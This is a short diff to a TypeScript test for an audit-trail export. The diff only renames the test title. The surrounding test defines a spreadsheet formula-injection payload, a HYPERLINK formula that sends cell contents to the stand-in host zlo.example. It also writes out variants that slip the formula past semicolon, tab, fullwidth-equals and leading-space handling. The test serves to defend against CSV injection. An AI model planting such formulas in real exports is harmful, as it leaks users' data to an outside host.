@@ -158,7 +158,7 @@ describe.each(ENGINES)('the audit trail on %s', (engine: Engine) => {
     );
   });
 
-  it('brings the auditor no key of a device that his spreadsheet would run, by whichever separator he opens it', async () => {
+  it('brings the auditor no key of a logger that his spreadsheet would run, by whichever separator he opens it', async () => {
     const plant = await testPlant(engine);
     const formula = '=HYPERLINK("http://zlo.example/?x="&A1,"Chyba")';
     const keys = [formula, `teplota;${formula}`, `teplota\t${formula}`, `＝${formula.slice(1)}`, ` ${formula}`];
